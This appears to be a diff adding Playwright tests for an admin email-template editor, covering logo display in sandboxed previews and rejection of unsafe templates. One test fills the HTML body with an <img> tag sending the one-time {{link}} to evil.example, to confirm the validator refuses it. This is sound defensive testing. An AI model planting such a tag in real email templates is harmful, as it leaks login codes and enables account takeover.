@@ -1,4 +1,5 @@
 import { expect, expectAccessible, signIn, test, waitForMail } from './support/fixtures'
+import { tinyPng } from './support/png'
 
 test('an admin edits a brand’s colleague invitation, previews it live, sends a test and finds it in the outbox', async ({
   page,
@@ -99,4 +100,70 @@ test('an admin edits a brand’s colleague invitation, previews it live, sends a
   await expect(page.getByLabel('Subject', { exact: true })).toHaveValue(
     '{{employeeName}} would value your feedback',
   )
+})
+
+test('the brand logo shows inside the sandboxed HTML previews: the editor’s and the outbox message’s', async ({
+  page,
+}) => {
+  const name = `Logo Mail ${Date.now()}`
+  await signIn(page, 'admin@panorama.test')
+  await expect(page).toHaveURL(/\/admin$/)
+  await page.goto('/admin/brand-management')
+  await page.getByLabel('Brand name').fill(name)
+  await page.getByRole('button', { name: /create brand/i }).click()
+  await expect(page).toHaveURL(/\/admin\/brand-management\/[0-9a-f-]{36}$/)
+  const brandId = page.url().split('/').pop()!
+  await page
+    .getByLabel('Upload a logo')
+    .setInputFiles({ name: 'logo.png', mimeType: 'image/png', buffer: tinyPng() })
+  await page.getByRole('button', { name: 'Save brand' }).click()
+  await expect(page.getByRole('status').filter({ hasText: 'Brand saved' })).toBeVisible()
+
+  // The editor's live preview (srcdoc, sandbox without scripts) shows the logo.
+  await page.goto(`/admin/email-management/response_ready.${brandId}`)
+  await expect(page.getByRole('button', { name: /Insert \{\{link\}\}/ })).toBeVisible()
+  const preview = page.frameLocator('iframe[title="HTML part of the preview"]').getByRole('img', { name })
+  await expect(preview).toBeVisible()
+  await expect
+    .poll(() => preview.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth))
+    .toBeGreaterThan(0)
+
+  // A test message goes out with the logo; the outbox message's frame shows it too.
+  await page.getByRole('button', { name: 'Send a test to me' }).click()
+  await expect(page.getByRole('status').filter({ hasText: 'Test queued' })).toBeVisible()
+  await page.goto(`/admin/email-management?tab=outbox&to=admin%40panorama.test&template=response_ready`)
+  await page
+    .getByRole('row', { name: new RegExp(name) })
+    .first()
+    .getByRole('link', { name: 'admin@panorama.test' })
+    .click()
+  await expect(page).toHaveURL(/\/admin\/email-management\/outbox\/[0-9a-f-]{36}$/)
+  const logo = page.frameLocator('iframe[title="HTML part of the message"]').getByRole('img', { name })
+  await expect(logo).toBeVisible()
+  await expect
+    .poll(() => logo.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth))
+    .toBeGreaterThan(0)
+})
+
+test('the image trick with a one-time code is refused beside the HTML body, and nothing is saved', async ({
+  page,
+}) => {
+  await signIn(page, 'admin@panorama.test')
+  await expect(page).toHaveURL(/\/admin$/)
+  await page.goto('/admin/email-management/admin_invite')
+  await expect(page.getByRole('button', { name: /Insert \{\{link\}\}/ })).toBeVisible()
+  const html = page.getByLabel('HTML body (optional)')
+  await html.fill(
+    '<p>Welcome</p><p><a href="{{link}}">Set your password</a></p><img src="https://evil.example/p.gif?x={{link}}">',
+  )
+  await page.getByRole('button', { name: 'Save', exact: true }).click()
+  const message = page.getByText(
+    '{{link}} carries the reader’s one-time code, so it may stand only as a link’s whole address (<a href="{{link}}">) or as text. Take it out of <img src>.',
+  )
+  await expect(message).toBeVisible()
+  // Beside the field: the HTML body is described by its error.
+  await expect(html).toHaveAccessibleDescription(/Take it out of <img src>\./)
+  await expectAccessible(page)
+  await page.reload()
+  await expect(page.getByLabel('HTML body (optional)')).toHaveValue('')
 })
